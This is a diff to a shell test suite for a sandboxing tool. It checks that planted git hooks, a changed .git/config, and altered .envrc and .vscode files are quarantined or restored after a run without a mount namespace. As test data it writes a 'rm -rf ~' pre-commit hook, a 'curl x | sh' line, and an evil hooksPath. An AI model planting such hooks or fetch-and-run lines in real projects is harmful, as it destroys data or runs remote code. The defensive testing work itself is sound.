@@ -454,7 +454,33 @@ fi
 
 # ---- protected paths ----
 if [ "$NOUSERNS" = 1 ]; then
-	na "protected paths need a mount namespace"
+	# without a mount namespace they cannot be read-only: what the command
+	# changes in them is set aside after the run and the original put back
+	mkdir -p "$WS/.vscode"
+	echo '{"editor.tabSize": 4}' >"$WS/.vscode/settings.json"
+	echo 'export A=1' >"$WS/.envrc"
+	cp "$WS/.vscode/settings.json" "$T/vscode.orig"
+	cp "$WS/.envrc" "$T/envrc.orig"
+	[ "$AS" = nobody ] && chown -R nobody:nogroup "$WS"
+	out=$(m "${MODE[@]}" -- sh -c 'echo "rm -rf ~" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;
+		git config core.hooksPath /tmp/evil; echo "curl x | sh" >> .envrc;
+		echo "{\"tasks\": 1}" > .vscode/tasks.json;
+		echo "{\"terminal.integrated.shell.linux\": \"/tmp/x\"}" > .vscode/settings.json;
+		echo "{}" > .mcp.json' 2>&1)
+	check "no mount namespace: a planted git hook is set aside after the run" \
+		cond '[ ! -e "$WS/.git/hooks/pre-commit" ] && [ -e "$WS/.git/hooks/pre-commit.moat-quarantined" ]'
+	check "no mount namespace: .git/config that runs a program is put back" \
+		cmp -s "$WS/.git/config" "$T/git-config.orig"
+	check "no mount namespace: changed .envrc and .vscode/settings.json put back, new task and .mcp.json set aside" \
+		cond 'cmp -s "$WS/.envrc" "$T/envrc.orig" && cmp -s "$WS/.vscode/settings.json" "$T/vscode.orig" && [ ! -e "$WS/.vscode/tasks.json" ] && [ ! -e "$WS/.mcp.json" ] && [ -e "$WS/.mcp.json.moat-quarantined" ]'
+	check "no mount namespace: the set-aside files are named" grep -q "envrc (changed; the original put back)" <<<"$out"
+	mr -- sh -c 'git remote add origin https://example.invalid/r.git' 2>/dev/null
+	check "no mount namespace: git's own change to .git/config (a remote) stays" \
+		grep -q 'example.invalid/r.git' "$WS/.git/config"
+	(cd "$WS" && git remote remove origin 2>/dev/null; git config --unset core.hooksPath 2>/dev/null)
+	cp "$T/git-config.orig" "$WS/.git/config"
+	rm -rf "$WS/.vscode" "$WS/.envrc"* "$WS/.mcp.json"* "$WS/.git/hooks/"*.moat-quarantined* "$WS/.git/hooks/pre-commit" \
+		"$WS/.git/config.moat-quarantined"*
 else
 	mr -- sh -c 'echo "rm -rf ~" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit' 2>/dev/null
 	check "a git hook cannot be planted" [ ! -e "$WS/.git/hooks/pre-commit" ]
